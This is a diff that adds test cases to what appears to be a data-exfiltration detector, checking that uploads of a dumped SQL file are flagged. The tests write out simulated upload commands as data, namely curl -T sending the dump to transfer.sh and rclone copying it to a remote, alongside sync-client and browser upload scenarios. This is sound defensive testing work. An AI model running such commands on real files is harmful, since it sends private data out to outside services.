@@ -429,6 +429,54 @@ describe('lineage is remembered for seven days', () => {
   });
 });
 
+describe('an upload is a step of the file too', () => {
+  const OPENED = { path: 'Desktop/a.sql', days: 5 };
+
+  /** The dump leaves once on the fifth day, and after some more time goes to a place where data is lost for good. */
+  function leftTwice(leave: (desk: Desk) => unknown, seconds: number): Desk {
+    const desk = new Desk();
+    desk.dump(OPENED.path);
+    desk.story.wait(OPENED.days * DAY).noise(1);
+    leave(desk);
+    desk.story.wait(seconds);
+    desk.type(PROGRAMS.curl, `curl -T ${OPENED.path} https://transfer.sh/`);
+    return desk;
+  }
+
+  const WAYS: readonly (readonly [string, (desk: Desk) => unknown])[] = [
+    ['named in a command', (desk) => desk.type(PROGRAMS.rclone, 'rclone copy Desktop/a.sql box:x')],
+    [
+      'opened by a sync client',
+      (desk) => desk.story.open(desk.background(PROGRAMS.dropbox), desk.at(OPENED.path)),
+    ],
+    [
+      'opened by a browser that reached a service',
+      (desk) => {
+        const chrome = desk.background(PROGRAMS.chrome);
+        desk.story.open(chrome, desk.at(OPENED.path));
+        desk.reach(chrome, 'drive.google.com');
+      },
+    ],
+    [
+      'redirected to an uploader',
+      (desk) => {
+        const child = desk.story.fork(desk.shell);
+        desk.story.open(child, desk.at(OPENED.path));
+        desk.story.exec(child, desk.program(PROGRAMS.rclone, 'rclone rcat box:x'));
+      },
+    ],
+  ];
+
+  it.each(WAYS)('when it is %s', (_, leave) => {
+    expect(leftTwice(leave, 6 * DAY).findings()).toMatchObject([
+      { stage: 'upload', severity: 'critical' },
+    ]);
+    expect(leftTwice(leave, 7 * DAY + 1).findings()).toMatchObject([
+      { stage: 'upload', severity: 'high' },
+    ]);
+  });
+});
+
 describe('a copy of several files', () => {
   it('gives each copy the lineage of the file of its name', () => {
     const desk = new Desk();
